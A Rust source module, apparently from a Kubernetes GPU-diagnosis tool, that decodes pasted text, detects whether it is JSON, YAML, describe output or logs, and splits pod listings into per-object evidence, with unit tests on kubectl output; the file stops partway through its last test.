//! Offline input: pasted text → the same `Evidence` the live collector builds. This module owns reading the
//! bytes (size cap, binary check, UTF-8 or UTF-16 with its mark) and detecting the format without being told;
//! `carried` undoes how a ticket carried the paste, `flattened` gives a paste its line breaks back, `objects`
//! reads JSON/YAML API objects, `text` reads describe output, event tables, bare messages and log lines.

mod carried;
mod flattened;
pub mod objects;
mod text;

use std::sync::LazyLock;

use regex::Regex;

use crate::error::{Error, Result};
use crate::evidence::{Evidence, Signal, SignalSource};
use crate::shell::{is_cluster_command, is_command_line};
use carried::{
    dedent, rejoin_wrapped, respace, uncolour, unescape_html, unescape_markdown, unfence, unquote,
    untypeset,
};

/// The largest input accepted: a 100,000-event EventList is well under it.
pub const MAX_INPUT_BYTES: u64 = 512 << 20;

/// Which reader understood the input (reported in gaps and tests).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Json,
    Yaml,
    Describe,
    Text,
}

/// Checks raw bytes and turns them into text: empty, binary (NUL bytes) and invalid UTF-8 are errors. UTF-16
/// with its byte-order mark is text too: Windows PowerShell 5.1 writes `kubectl … > file` that way.
pub fn decode(bytes: Vec<u8>, what: &str) -> Result<String> {
    if bytes.len() as u64 > MAX_INPUT_BYTES {
        return Err(Error::InputTooLarge {
            what: what.into(),
            limit_mib: MAX_INPUT_BYTES >> 20,
        });
    }
    if let Some(text) = utf16(&bytes) {
        let text = text.map_err(|at| Error::NotText {
            what: what.into(),
            why: format!("invalid UTF-16 at byte {at}"),
        })?;
        return decode(text.into_bytes(), what);
    }
    if bytes.contains(&0) {
        return Err(Error::NotText {
            what: what.into(),
            why: "it contains NUL bytes (binary data?)".into(),
        });
    }
    let text = String::from_utf8(bytes).map_err(|e| Error::NotText {
        what: what.into(),
        why: format!("invalid UTF-8 at byte {}", e.utf8_error().valid_up_to()),
    })?;
    let text = text
        .strip_prefix('\u{feff}')
        .map(str::to_string)
        .unwrap_or(text);
    if text.trim().is_empty() {
        return Err(Error::EmptyInput { what: what.into() });
    }
    Ok(text)
}

/// Bytes that open with UTF-16's byte-order mark (little or big endian) as UTF-8 text; `None` without the mark,
/// or the offset of the first unpaired surrogate.
fn utf16(bytes: &[u8]) -> Option<std::result::Result<String, usize>> {
    let little = match bytes {
        [0xff, 0xfe, ..] => true,
        [0xfe, 0xff, ..] => false,
        _ => return None,
    };
    // An odd last byte is not a whole unit.
    if bytes.len() % 2 == 1 {
        return Some(Err(bytes.len() - 1));
    }
    let units = bytes[2..].chunks_exact(2).map(|pair| {
        if little {
            u16::from_le_bytes([pair[0], pair[1]])
        } else {
            u16::from_be_bytes([pair[0], pair[1]])
        }
    });
    let mut text = String::with_capacity(bytes.len() / 2);
    let mut at = 2;
    for c in char::decode_utf16(units) {
        match c {
            Ok(c) => {
                text.push(c);
                at += 2 * c.len_utf16();
            }
            Err(_) => return Some(Err(at)),
        }
    }
    Some(Ok(text))
}

/// A paste that looked like JSON but is read as text (a log's `[  204.0]` stamp, a cut-off document) is cleaned
/// of escapes and control characters first, as any text paste is.
fn read_text(input: &str) -> Evidence {
    match crate::sanitize::layout(input) {
        Some(clean) => text::read(&clean),
        None => text::read(input),
    }
}

/// Detects the format and reads the input into one Evidence per target.
pub fn parse(input: &str, what: &str) -> Result<(Format, Vec<Evidence>)> {
    // Line ends as Windows (CRLF, or CRCRLF after a second text-mode write), old Macs or a progress bar's
    // redraw (CR alone), and the other line and page breaks.
    let unix = crate::sanitize::unix_line_ends(input);
    let input = unix.as_deref().unwrap_or(input);
    // A paste captured with a terminal's colours keeps its layout without them.
    let uncoloured = uncolour(input);
    let input = uncoloured.as_deref().unwrap_or(input);
    // Text copied from a page's source or a ticket export keeps its HTML escapes (`&quot;`, `&gt;`). A JSON
    // document with quotes of its own (also one in a fence) is not escaped: its strings keep what they hold.
    let quoted_json = (looks_like_json(input.trim_start()) && input.contains('"'))
        || input.contains("\"apiVersion\"")
        || input.contains("\"kind\"");
    let unescaped = if quoted_json {
        None
    } else {
        unescape_html(input)
    };
    let input = unescaped.as_deref().unwrap_or(input);
    let undocked = docker_log_lines(input);
    let input = undocked.as_deref().unwrap_or(input);
    // A JSON document is read as it is (and at full speed); the rest may carry a ticket's formatting. What a
    // container wrote to Docker's log is its output, even where it prints a JSON block (cut off or whole).
    let json = undocked.is_none() && looks_like_json(input.trim_start());
    // A manifest's strings keep their curly quotes (a YAML string in single quotes may hold a `’`).
    let manifest = quoted_json || input.contains("apiVersion:");
    let plain = if json {
        None
    } else {
        untypeset(input, !manifest)
    };
    let input = plain.as_deref().unwrap_or(input);
    let unmarked = if json { None } else { unescape_markdown(input) };
    let input = unmarked.as_deref().unwrap_or(input);
    let spaced = if json { None } else { respace(input) };
    let input = spaced.as_deref().unwrap_or(input);
    let unfenced = if json { None } else { unfence(input) };
    let input = unfenced.as_deref().unwrap_or(input);
    // A ticket field that turned the paste's line breaks into spaces.
    let restored = if json {
        None
    } else {
        flattened::restore_lines(input)
    };
    let input = restored.as_deref().unwrap_or(input);
    // Whatever escapes and control characters are left never reach a reader (nor, through it, the output).
    let stripped = if json {
        None
    } else {
        crate::sanitize::layout(input)
    };
    let input = stripped.as_deref().unwrap_or(input);
    let trimmed = input.trim_start();
    // A tool's own report with no Kubernetes kind that the object readers know nothing in: its lines are text.
    let report_as_text = || Ok((Format::Text, split_by_object(read_text(input))));
    // Docker's lines unwrapped are the container's output: the paste is read as text (its YAML, listings and
    // quoted blocks too), never as one JSON document.
    let document = undocked.is_none();
    if document
        && trimmed.starts_with('{')
        && let Some(evs) = objects::read_list_json(trimmed, what)
    {
        return match evs {
            Ok(evs) => Ok((Format::Json, evs)),
            Err(_) if kindless_report(trimmed) => report_as_text(),
            Err(e) => Err(e),
        };
    }
    if document && looks_like_json(trimmed) {
        return match serde_json::from_str::<serde_json::Value>(trimmed) {
            Ok(v) if is_log_record(&v) => Ok((Format::Text, vec![read_text(input)])),
            Ok(v) => {
                let kindless = !names_a_kind(&v);
                match objects::read(vec![v], what) {
                    Ok(evs) => Ok((Format::Json, evs)),
                    Err(_) if kindless && carries_messages(trimmed) => report_as_text(),
                    Err(e) => Err(e),
                }
            }
            Err(json_err) => {
                // JSON lines (one object per line), as `kubectl get events -w -o json` prints.
                let docs: std::result::Result<Vec<serde_json::Value>, _> =
                    serde_json::Deserializer::from_str(trimmed)
                        .into_iter::<serde_json::Value>()
                        .collect();
                match docs {
                    // A structured log (zap, klog's JSON): one record per line.
                    Ok(docs) if docs.len() > 1 && docs.iter().all(is_log_record) => {
                        Ok((Format::Text, vec![read_text(input)]))
                    }
                    Ok(docs) if docs.len() > 1 => Ok((Format::Json, objects::read(docs, what)?)),
                    // A word processor's or a tracker's no-break spaces in the indentation are not JSON's: read
                    // once more with plain spaces.
                    _ if trimmed.contains('\u{a0}') => parse(&trimmed.replace('\u{a0}', " "), what),
                    _ if trimmed.starts_with('{') && looks_like_log_json(trimmed) => {
                        Ok((Format::Text, vec![read_text(input)]))
                    }
                    // `[422] …`, `[2024-…] …`: a bracketed tag on pasted text, not JSON; or a JSON
                    // document cut short in a ticket that still carries its messages, or one a ticket mangled (a
                    // line break inside a string, typeset quotes) that carries them; not one that merely ends early.
                    _ if !strongly_json(trimmed)
                        || has_message_property(trimmed)
                        || (!json_err.is_eof() && carries_messages(trimmed)) =>
                    {
                        let rejoined = rejoin_wrapped(input);
                        let input = rejoined.as_deref().unwrap_or(input);
                        Ok((Format::Text, split_by_object(read_text(input))))
                    }
                    // A document cut short after a message that a rule reads (an Event, the apiserver's
                    // refusal): the message is what the ticket carries. Cut short with nothing a rule reads, it
                    // stays an error.
                    _ if json_err.is_eof()
                        && carries_messages(trimmed)
                        && read_text(input)
                            .signals
                            .iter()
                            .any(|s| !crate::classify::read(&s.message).findings.is_empty()) =>
                    {
                        let rejoined = rejoin_wrapped(input);
                        let input = rejoined.as_deref().unwrap_or(input);
                        Ok((Format::Text, split_by_object(read_text(input))))
                    }
                    // A whole JSON document (a `daemon.json`) with the reporter's other pastes after it:
                    // what follows is read as text.
                    _ if let Some(rest) = text_after_whole_document(trimmed) => {
                        Ok((Format::Text, split_by_object(read_text(rest))))
                    }
                    // A JSON document cut short where the reporter's next paste begins (a node's JSON, then
                    // `ps` output): the whole input is read as text.
                    _ if cut_short_before_text(trimmed, &json_err) => {
                        Ok((Format::Text, split_by_object(read_text(input))))
                    }
                    _ => Err(Error::BadInput {
                        what: what.into(),
                        why: format!("invalid JSON: {json_err}"),
                    }),
                }
            }
        };
    }
    // A terminal's hard wrap is undone at whichever step it was made: before the paste was quoted or
    // indented, or after.
    let rejoined = rejoin_wrapped(input);
    let wrapped_after = rejoined.is_none();
    let input = rejoined.as_deref().unwrap_or(input);
    // A paste indented as a markdown code block, or quoted as an email or a markdown quote, reads as it was
    // printed.
    let dedented = dedent(input);
    let unquoted = unquote(dedented.as_deref().unwrap_or(input))
        .map(|q| dedent(&q).unwrap_or(q))
        .or(dedented);
    let input = unquoted.as_deref().unwrap_or(input);
    let rejoined = if wrapped_after {
        rejoin_wrapped(input)
    } else {
        None
    };
    let input = rejoined.as_deref().unwrap_or(input);
    if looks_like_yaml_object(input)
        && let Some(docs) = yaml_docs(input)
        && let Ok(evs) = objects::read(docs, what)
    {
        return Ok((Format::Yaml, evs));
    }
    let ev = text::read(input);
    let format = if text::is_describe(input) {
        Format::Describe
    } else {
        Format::Text
    };
    Ok((format, split_by_object(ev)))
}

/// A `kubectl get events` table or `kubectl get pods` listing about several objects becomes one Evidence
/// per object. Lines that name no object (an Events excerpt pasted under the listing) belong to the Pods
/// whose row shows them not running; a Pod whose only line says it runs is left out when others remain.
fn split_by_object(ev: Evidence) -> Vec<Evidence> {
    // A DaemonSet row is context for the Pods around it (why no node runs the device plugin), not a target.
    let context = |s: &Signal| s.source == Some(SignalSource::Daemonset);
    let mut objects: Vec<String> = Vec::new();
    for s in ev.signals.iter().filter(|s| !context(s)) {
        if let Some(o) = &s.object
            && !objects.contains(o)
        {
            objects.push(o.clone());
        }
    }
    if objects.len() < 2 || ev.pod.as_ref().is_some_and(|p| p.name.is_some()) {
        let mut ev = ev;
        // One Pod named by a listing row: that is the target.
        if let [only] = objects.as_slice()
            && ev.target.name.is_none()
            && let Some(name) = only.strip_prefix("pod/")
            && name.starts_with(|c: char| c.is_ascii_alphanumeric())
        {
            ev.target.name = Some(name.to_string());
            ev.target.namespace = ev
                .signals
                .iter()
                .find(|s| s.object.as_deref() == Some(only.as_str()))
                .and_then(|s| s.namespace.clone());
        }
        return vec![ev];
    }
    let of = |o: &str| -> Vec<&Signal> {
        ev.signals
            .iter()
            .filter(|s| s.object.as_deref() == Some(o) && !context(s))
            .collect()
    };
    // A listing's rows carry no message, but for a `Running` row that keeps restarting (the row is its own
    // evidence, and a warning).
    let restarting =
        |s: &Signal| s.reason.as_deref() == Some("Running") && s.kind.as_deref() == Some("Warning");
    let only_rows = |signals: &[&Signal]| {
        signals.iter().all(|s| {
            s.source == Some(SignalSource::PodStatus) && (s.message.is_empty() || restarting(s))
        })
    };
    let runs = |signals: &[&Signal]| {
        only_rows(signals)
            && signals.iter().all(|s| {
                matches!(
                    s.reason.as_deref(),
                    Some("Running" | "Completed" | "Succeeded")
                ) && !restarting(s)
            })
    };
    // The command that printed the listing (`oc get pods`), and the API's deprecation notice kubectl prints
    // above it, are no message about anything.
    let loose: Vec<Signal> = ev
        .signals
        .iter()
        .filter(|s| s.object.is_none() || context(s))
        .filter(|s| {
            let lines: Vec<&str> = s.message.trim().lines().map(str::trim).collect();
            let chatter = |l: &str| is_listing_command(l) || is_deprecation_notice(l);
            !(lines.iter().all(|l| chatter(l))
                && (lines.len() == 1 || lines.iter().any(|l| is_deprecation_notice(l))))
        })
        .cloned()
        .collect();
    let stuck: Vec<&String> = objects
        .iter()
        .filter(|o| {
            let signals = of(o);
            only_rows(&signals) && !runs(&signals)
        })
        .collect();
    let mut out: Vec<Evidence> = Vec::new();
    for o in &objects {
        let own = of(o);
        if runs(&own) && objects.iter().any(|other| !runs(&of(other))) {
            continue;
        }
        let (kind, name) = o.split_once('/').unwrap_or(("pod", o));
        let kind = match kind.to_ascii_lowercase().as_str() {
            "pod" => "Pod".to_string(),
            "replicaset" => "ReplicaSet".into(),
            "deployment" => "Deployment".into(),
            "job" => "Job".into(),
            "statefulset" => "StatefulSet".into(),
            "daemonset" => "DaemonSet".into(),
            "node" => "Node".into(),
            other => other.to_string(),
        };
        let namespace = own.iter().find_map(|s| {
            // A `-A` listing or `Successfully assigned ns/name to node` names the namespace.
            s.namespace.clone().or_else(|| {
                s.message
                    .strip_prefix("Successfully assigned ")
                    .and_then(|r| r.split_once('/'))
                    .map(|(ns, _)| ns.to_string())
            })
        });
        let mut signals: Vec<Signal> = own.into_iter().cloned().collect();
        if stuck.contains(&o) {
            signals.extend(loose.iter().cloned());
        }
        out.push(Evidence {
            target: crate::evidence::Target {
                kind,
                namespace,
                name: Some(name.to_string()),
                ..Default::default()
            },
            signals,
            logs_of: ev.logs_of.clone(),
            ..Default::default()
        });
    }
    // Prose around a listing about a Pod that is listed already (its events read `Successfully assigned`)
    // is a target of its own only when it reports an error or a rule reads it: otherwise it would stand
    // beside that Pod saying nothing of it.
    let listed = ev.pod.is_some()
        && ev
            .target
            .name
            .as_deref()
            .is_some_and(|n| out.iter().any(|o| o.target.name.as_deref() == Some(n)));
    // Beside a listing whose Pods all run, prose that names no failure, no waiting Pod and no GPU (`Here is
    // what I see:`) is no target either; nor, beside any listing, is text that is only kubectl's chatter (a
    // label such as `Output:`, `kubectl apply`'s `created` lines, a warning kubectl prints).
    let all_run = objects.iter().all(|o| runs(&of(o)));
    let names_a_gpu = |m: &str| {
        let m = m.to_ascii_lowercase();
        ["gpu", "nvidia", "cuda", "amd.com", "accelerator", "mig"]
            .iter()
            .any(|w| m.contains(w))
    };
    let chatter = loose.iter().all(|s| s.message.lines().all(is_chatter));
    let says_something = !chatter
        && ((!listed && !all_run)
            || loose.iter().any(|s| {
                crate::diagnose::looks_like_error(&s.message)
                    || !crate::classify::read(&s.message).findings.is_empty()
                    || (!listed
                        && (crate::diagnose::speaks_of_waiting(&s.message)
                            || names_a_gpu(&s.message)))
            }));
    if !loose.is_empty() && stuck.is_empty() && says_something {
        out.push(Evidence {
            target: ev.target.clone(),
            signals: loose,
            pod: ev.pod.clone(),
            logs_of: ev.logs_of.clone(),
            ..Default::default()
        });
    }
    out
}

/// A command line a reporter pasted above its output (`$ kubectl get pods -A`, `helm install …`, `root@master:~#
/// watch kubectl get pods`): a cluster tool's, or any after a prompt, unless its output (or the reporter's
/// account of it) follows on the same line (`root@node:~# nvidia-smi Failed to initialize NVML: …`, `` `helm
/// upgrade` says: Error: … ``, where a message's `: ` shows).
/// The apiserver's deprecation warning, which kubectl prints above its output: `Warning: apps.openshift.io/v1
/// DeploymentConfig is deprecated in v4.14+, unavailable in v4.10000+`.
fn is_deprecation_notice(line: &str) -> bool {
    static NOTICE: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
        regex::Regex::new(r"^Warning: \S+ \w+ is deprecated in v[\d.]+\+")
            .expect("deprecation notice regex")
    });
    NOTICE.is_match(line)
}

/// A line of kubectl's own chatter around a listing, not a message: a label the reporter put above it
/// (`Output:`, `输出：`) or a short question after it (`Any idea?`), `kubectl apply`'s `kind/name created`, a
/// warning kubectl prints, the command itself.
fn is_chatter(line: &str) -> bool {
    static APPLIED: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
        regex::Regex::new(r"^[\w.-]+/[\w.-]+ (?:created|configured|unchanged|deleted|serverside-applied)(?: \(server dry run\))?$")
            .expect("applied regex")
    });
    let l = line.trim();
    l.is_empty()
        || l.ends_with(':') && l.chars().count() <= 40 && !l.contains(": ")
        || l.ends_with('：') && l.chars().count() <= 20
        // The reporter's short question after it (`Any idea?`), which names nothing.
        || l.ends_with('?')
            && l.chars().count() <= 30
            && !crate::diagnose::speaks_of_waiting(l)
            && !crate::diagnose::looks_like_error(l)
        || APPLIED.is_match(l)
        || l.starts_with("Warning: ") && !crate::diagnose::looks_like_error(l)
        || is_deprecation_notice(l)
        || is_listing_command(l)
}

fn is_listing_command(line: &str) -> bool {
    (is_cluster_command(line) || is_command_line(line)) && !unquoted(line).contains(": ")
}

/// A command line without its quoted arguments of JSON or jsonpath (`-p '{"spec": …}'`, `-o
/// jsonpath='{.a}: {.b}'`, `custom-columns='POD: .metadata.name'`), whose `: ` is no output. A quote opens an
/// argument only at a word's start (`-p '…`, `-o=jsonpath='…`) and only when it closes: an apostrophe in the
/// reporter's words (`don't know why: …`) leaves the rest of the line as it is.
fn unquoted(line: &str) -> String {
    let mut out = String::with_capacity(line.len());
    let mut rest = line;
    while let Some(open) = rest.find(['\'', '"']) {
        let quote = rest[open..].chars().next().unwrap_or('"');
        let at_start = rest[..open]
            .chars()
            .next_back()
            .is_none_or(|c| c.is_whitespace() || c == '=');
        let body = &rest[open + 1..];
        let closed = body.find(quote);
        match closed {
            Some(end)
                if at_start
                    && (body[..end].contains('{')
                        || [".metadata", ".spec", ".status", ".items"]
                            .iter()
                            .any(|p| body[..end].contains(p))) =>
            {
                out.push_str(&rest[..open]);
                rest = &body[end + 1..];
            }
            _ => {
                out.push_str(&rest[..open + 1]);
                rest = body;
            }
        }
    }
    out.push_str(rest);
    out
}

/// `{"…` or `[{…` (not a bracketed tag such as `[Bug] …` or `[Warning] …` at the start of pasted text).
fn looks_like_json(s: &str) -> bool {
    let mut chars = s.chars();
    let next = |c: &mut std::str::Chars<'_>| c.find(|c| !c.is_whitespace());
    match chars.next() {
        Some('{') => matches!(next(&mut chars), Some('"' | '}') | None),
        Some('[') => matches!(
            next(&mut chars),
            Some('{' | '[' | '"' | ']' | '-' | '0'..='9') | None
        ),
        _ => false,
    }
}

/// The text after one whole JSON document that opens the input, when what follows is not JSON too (a stream
/// of documents whose last one is cut short stays invalid JSON).
fn text_after_whole_document(s: &str) -> Option<&str> {
    let mut docs = serde_json::Deserializer::from_str(s).into_iter::<serde::de::IgnoredAny>();
    docs.next()?.ok()?;
    let rest = s.get(docs.byte_offset()..)?;
    (!rest.trim_start().starts_with(['{', '[']) && !rest.trim().is_empty()).then_some(rest)
}

/// Whether a JSON document breaks off where a line of other text begins: the parser fails on a line (not at
/// the input's end) whose first word is no JSON token, that line reads as words (three or more), and no JSON
/// comes after it (a string wrapped inside a whole document, a comment or an unquoted key are no cut).
fn cut_short_before_text(s: &str, err: &serde_json::Error) -> bool {
    if err.is_eof() || err.line() < 2 {
        return false;
    }
    // A JSON line: a `"key":` or a bracket alone, which opens or closes the document's structure (not a dmesg
    // `[  12.3]` stamp nor a JSON log record `{"level":…}`).
    let structure = |l: &str| {
        let t = l.trim();
        (t.starts_with('"') && t.contains("\":"))
            || matches!(t, "{" | "}" | "}," | "[" | "]" | "],")
    };
    let mut rest = s.lines().skip(err.line() - 1);
    rest.next().is_some_and(|line| {
        let t = line.trim_start();
        t.starts_with(|c: char| c.is_alphanumeric())
            && !t.starts_with(|c: char| c.is_ascii_digit() && !t.contains(char::is_whitespace))
            && !matches!(
                t.split([' ', ',', ']', '}', ':']).next(),
                Some("true" | "false" | "null")
            )
            && !t.contains("\":")
            && t.split_whitespace().nth(2).is_some()
    }) && rest.all(|l| !structure(l))
}

/// Text that can only be JSON: an object with a quoted key, or an array of objects, arrays or strings.
fn strongly_json(s: &str) -> bool {
    let mut chars = s.chars();
    let first = chars.next();
    let second = chars.find(|c| !c.is_whitespace());
    matches!(
        (first, second),
        (Some('{'), Some('"' | '}')) | (Some('['), Some('{' | '[' | '"'))
    )
}

fn has_message_property(s: &str) -> bool {
    // At a line's start or an object's, also when a ticket glued the lines (`{    "message":"…`).
    static PROPERTY: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r#"(?m)^\s*"(?:message|msg)":|\{\s*"(?:message|msg|error)":\s*""#)
            .expect("message property regex")
    });
    PROPERTY.is_match(s)
}

/// A tool's own JSON report that names no Kubernetes kind but carries the cluster's messages (a test harness's
/// dump of Pods' conditions): when the object readers know nothing in it, its message lines are read as text.
/// A document with a kind of another sort stays an error.
fn kindless_report(json: &str) -> bool {
    carries_messages(json)
        && serde_json::from_str::<serde_json::Value>(json).is_ok_and(|v| !names_a_kind(&v))
}

/// Whether a JSON document has a `message` (or `msg`) string anywhere, also when its lines were glued.
fn carries_messages(json: &str) -> bool {
    static MESSAGE: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r#""(?:message|msg)"\s*:\s*""#).expect("message property regex")
    });
    MESSAGE.is_match(json)
}

/// Whether a JSON document says it is a Kubernetes object: a `kind` on it, on an element, or on an item of its
/// `items`. A plain `List` says nothing of what it holds.
fn names_a_kind(v: &serde_json::Value) -> bool {
    match v {
        serde_json::Value::Object(o) => {
            o.get("kind").is_some_and(|k| k != "List") || o.get("items").is_some_and(names_a_kind)
        }
        serde_json::Value::Array(a) => a.iter().any(names_a_kind),
        _ => false,
    }
}

/// A structured log record (zap, klog's JSON format), not a Kubernetes object: no `kind`, and a `msg` or
/// `level` of its own; or a line of Docker's `json-file` log that `docker_log_lines` could not take apart.
fn is_log_record(v: &serde_json::Value) -> bool {
    v.as_object().is_some_and(|o| {
        !o.contains_key("kind")
            && (o.contains_key("msg")
                || o.contains_key("level")
                || (o.get("log").is_some_and(serde_json::Value::is_string)
                    && o.contains_key("stream")))
    })
}

/// Lines of Docker's `json-file` log (a node's container log files: `{"log":"…\n","stream":"stderr","time":"…"}`)
/// as the lines the container wrote: Docker escapes quotes, `<`, `>` and `&` (`\u003e`) and ends each with
/// `\n`, which no rule reads through. Other lines stay as they are.
fn docker_log_lines(input: &str) -> Option<String> {
    if !input.contains("{\"log\":\"") {
        return None;
    }
    let mut changed = false;
    let lines: Vec<std::borrow::Cow<'_, str>> = input
        .lines()
        .map(|line| {
            let record = line
                .trim_start()
                .starts_with("{\"log\":\"")
                .then(|| serde_json::from_str::<serde_json::Value>(line.trim()).ok())
                .flatten();
            match record.as_ref().and_then(|r| {
                r.get("log")?
                    .as_str()
                    .map(|l| l.trim_end_matches(['\n', '\r']))
            }) {
                Some(written) => {
                    changed = true;
                    std::borrow::Cow::Owned(written.to_string())
                }
                None => std::borrow::Cow::Borrowed(line),
            }
        })
        .collect();
    changed.then(|| lines.join("\n"))
}

fn looks_like_log_json(s: &str) -> bool {
    s.lines().next().is_some_and(|l| {
        l.contains("\"level\"")
            || l.contains("\"msg\"")
            || l.contains("\"ts\"")
            || l.starts_with("{\"log\":\"")
    })
}

fn looks_like_yaml_object(input: &str) -> bool {
    input
        .lines()
        .take(50)
        .any(|l| l.starts_with("kind:") || l.starts_with("apiVersion:") || l.starts_with("items:"))
}

fn yaml_docs(input: &str) -> Option<Vec<serde_json::Value>> {
    let mut docs = Vec::new();
    for doc in serde_norway::Deserializer::from_str(input) {
        let v: serde_json::Value = serde::Deserialize::deserialize(doc).ok()?;
        if !v.is_null() {
            docs.push(v);
        }
    }
    (!docs.is_empty()).then_some(docs)
}

/// Reads a path, or stdin for `-`, up to the size cap. Returns a display name and the bytes.
pub fn read_source(path: &str) -> Result<(String, Vec<u8>)> {
    use std::io::Read;
    let (what, reader, size): (String, Box<dyn Read>, u64) = if path == "-" {
        (
            "standard input".into(),
            Box::new(std::io::stdin().lock()),
            0,
        )
    } else {
        let f = std::fs::File::open(path).map_err(|e| Error::ReadInput {
            path: path.into(),
            source: e,
        })?;
        let meta = f.metadata().ok();
        if meta.as_ref().is_some_and(|m| m.is_dir()) {
            return Err(Error::BadInput {
                what: crate::sanitize::line(path),
                why: "is a directory".into(),
            });
        }
        let size = meta.filter(|m| m.is_file()).map_or(0, |m| m.len());
        if size > MAX_INPUT_BYTES {
            return Err(Error::InputTooLarge {
                what: crate::sanitize::line(path),
                limit_mib: MAX_INPUT_BYTES >> 20,
            });
        }
        (crate::sanitize::line(path), Box::new(f), size)
    };
    // A regular file's size sizes the buffer once; 85 MiB read into a growing Vec costs a third more.
    let mut bytes = Vec::with_capacity(usize::try_from(size).unwrap_or(0));
    reader
        .take(MAX_INPUT_BYTES + 1)
        .read_to_end(&mut bytes)
        .map_err(|e| Error::ReadInput {
            path: path.into(),
            source: e,
        })?;
    Ok((what, bytes))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_manifest_keeps_its_curly_quotes_and_escapes() {
        // A running Pod's YAML whose annotation holds a typographic apostrophe inside single quotes: straightened,
        // it would end the string early and the manifest would be read as text.
        let yaml = r#"apiVersion: v1
kind: Pod
metadata:
  annotations:
    description: 'NVIDIA’s vectorAdd sample'
  name: cuda
  namespace: default
spec:
  containers:
  - image: nvcr.io/nvidia/cuda:12.2.0-base-ubuntu22.04
    name: cuda
    resources:
      limits:
        nvidia.com/gpu: "1"
  nodeName: gpu-1
status:
  conditions:
  - status: "True"
    type: Ready
  - status: "True"
    type: PodScheduled
  containerStatuses:
  - name: cuda
    ready: true
    restartCount: 1
    lastState:
      terminated:
        exitCode: 128
        reason: StartError
        message: 'failed to create containerd task: failed to create shim task: OCI runtime create failed: runc create failed: unable to start container process: error during container init: error running hook #0: error running hook: exit status 1, stdout: , stderr: nvidia-container-cli: initialization error: nvml error: driver not loaded: unknown'
    state:
      running:
        startedAt: "2024-01-01T00:05:00Z"
  phase: Running"#;
        let (format, evs) = parse(yaml, "x").unwrap();
        assert_eq!(format, Format::Yaml);
        assert_eq!(evs[0].target.name.as_deref(), Some("cuda"));
        // A fenced JSON Pod whose string holds what looks like an HTML escape.
        let json = "```json\n{\"apiVersion\": \"v1\", \"kind\": \"Pod\", \"metadata\": {\"name\": \"cuda\", \"annotations\": {\"note\": \"a &quot;b&quot;\"}}, \"status\": {\"phase\": \"Pending\"}}\n```\n";
        let (format, evs) = parse(json, "x").unwrap();
        assert_eq!(format, Format::Json);
        assert_eq!(evs[0].target.name.as_deref(), Some("cuda"));
    }

    #[test]
    fn utf16_with_its_byte_order_mark_is_text() {
        let text = "Warning  FailedScheduling  0/1 nodes are available: 1 Insufficient nvidia.com/gpu.\r\n";
        let le: Vec<u8> = [0xff, 0xfe]
            .into_iter()
            .chain(text.encode_utf16().flat_map(u16::to_le_bytes))
            .collect();
        let be: Vec<u8> = [0xfe, 0xff]
            .into_iter()
            .chain(text.encode_utf16().flat_map(u16::to_be_bytes))
            .collect();
        assert_eq!(decode(le.clone(), "f").unwrap(), text);
        assert_eq!(decode(be, "f").unwrap(), text);
        // An unpaired surrogate, or a last byte that is half a unit, is not text.
        let mut odd = le.clone();
        odd.push(b'x');
        assert!(decode(odd, "f").is_err());
        // Without the mark, NUL bytes still say binary.
        assert!(decode(le[2..].to_vec(), "f").is_err());
    }

    #[test]
    fn a_dcgm_exporter_down_is_other_unless_its_init_containers_fail() {
        let listing = |status: &str| {
            format!(
                "NAME                         READY   STATUS       RESTARTS   AGE\nnvidia-dcgm-exporter-5xk2w   0/1     {status}   3          10m\n"
            )
        };
        let primary = |status: &str| {
            let (_, evs) = parse(&listing(status), "x").unwrap();
            crate::diagnose::diagnose(&evs[0]).primary
        };
        assert_eq!(primary("CrashLoopBackOff"), crate::rules::Category::Other);
        assert_eq!(primary("Error"), crate::rules::Category::Other);
        // Its init containers check the driver and the toolkit: a failure there says those are not ready.
        assert_eq!(primary("Init:Error"), crate::rules::Category::DevicePlugin);
        assert_eq!(
            primary("Init:CrashLoopBackOff"),
            crate::rules::Category::DevicePlugin
        );
    }

    #[test]
    fn a_driver_daemonset_not_ready_outranks_the_plugins_that_wait_for_it() {
        // gpu-operator#751: every operand waits for the driver, which does not come up.
        let paste = include_str!(
            "../../tests/fixtures/real/s18001-microk8s-operands-wait-driver-daemonset-not-ready.txt"
        );
        let (_, evs) = parse(paste, "x").unwrap();
        let d = crate::diagnose::diagnose(&evs[0]);
        assert!(
            d.causes[0].summary.contains("nvidia-driver-daemonset"),
            "{}",
            d.causes[0].summary
        );
    }

    #[test]
    fn a_precompiled_driver_daemonset_row_that_is_not_ready_is_read() {
        // The GPU Operator names a precompiled driver's DaemonSet after its kernel and OS
        // (`nvidia-driver-daemonset-$KERNEL-$OS`); here in `kubectl get ds`'s columns.
        let paste = "NAME                                                        DESIRED   CURRENT   READY   UP-TO-DATE   AVAILABLE   NODE SELECTOR   AGE\nnvidia-driver-daemonset-5.15.0-105-generic-ubuntu22.04      1         1         0       1            0           <none>          5m\n";
        let (_, evs) = parse(paste, "x").unwrap();
        let d = crate::diagnose::diagnose(&evs[0]);
        assert_eq!(d.primary, crate::rules::Category::DevicePlugin);
        assert!(
            d.causes[0].summary.contains("GPU driver DaemonSet"),
            "{}",
            d.causes[0].summary
        );
    }

    #[test]
    fn bad_bytes_are_one_line_errors() {
        assert!(matches!(decode(vec![], "x"), Err(Error::EmptyInput { .. })));
        assert!(matches!(
            decode(b"  \n\t".to_vec(), "x"),
            Err(Error::EmptyInput { .. })
        ));
        assert!(matches!(
            decode(vec![0x7f, b'E', b'L', b'F', 0, 1], "x"),
            Err(Error::NotText { .. })
        ));
        let e = decode(vec![b'a', 0xff, 0xfe], "x").unwrap_err();
        assert_eq!(e.to_string(), "x is not text: invalid UTF-8 at byte 1");
        assert_eq!(decode("\u{feff}hi".as_bytes().to_vec(), "x").unwrap(), "hi");
    }

    #[test]
    fn events_under_a_pod_listing_belong_to_the_pod_that_is_not_running() {
        let paste = "\
$ kubectl get pods
NAME                                   READY   STATUS    RESTARTS   AGE
nvidia-device-plugin-daemonset-7xk2p   1/1     Running   0          3d
trainer-0                              0/1     Pending   0          5m
$ kubectl describe pod trainer-0
